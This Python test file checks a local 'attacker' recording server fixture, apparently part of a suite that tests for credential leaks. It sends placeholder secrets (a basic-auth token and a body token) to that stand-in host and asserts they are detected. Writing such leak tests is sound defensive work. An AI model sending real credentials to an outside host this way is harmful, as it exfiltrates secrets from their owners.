"""The recording server itself: a leak check that cannot see a leak proves nothing."""

from __future__ import annotations

import httpx
import pytest

from .attacker import RecordingServer


def test_recording_server_sees_a_basic_auth_password(attacker: RecordingServer) -> None:
    httpx.get(attacker.url + "/repo.git/info/refs", auth=("git", "s3cret-token"))
    assert attacker.requests, "the request never arrived"
    with pytest.raises(AssertionError, match="received a secret"):
        attacker.assert_received_none_of(["s3cret-token"])


def test_recording_server_sees_a_bearer_token_in_a_body(attacker: RecordingServer) -> None:
    httpx.post(attacker.url + "/x", content=b"token=abc123-live")
    with pytest.raises(AssertionError):
        attacker.assert_received_none_of(["abc123-live"])
    attacker.assert_received_none_of(["something-else"])
